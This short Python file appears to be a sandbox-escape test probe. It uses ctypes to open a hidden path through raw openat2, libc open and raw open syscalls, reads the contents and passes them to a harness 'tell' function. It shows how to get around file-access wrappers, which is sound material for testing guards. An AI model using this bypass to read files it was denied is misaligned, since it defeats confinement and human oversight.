"""Reads by: system calls that wrappers forget."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
how = (ctypes.c_uint64 * 3)(0, 0, 0)
buffer = ctypes.create_string_buffer(65536)
for fd in (
    libc.syscall(437, -100, b"@HIDDEN@", how, 24),
    libc.open(b"@HIDDEN@", 0),
    libc.syscall(2, b"@HIDDEN@", 0),
):
    if fd > 0 and libc.read(fd, buffer, 65536) > 0:
        tell(buffer.value)
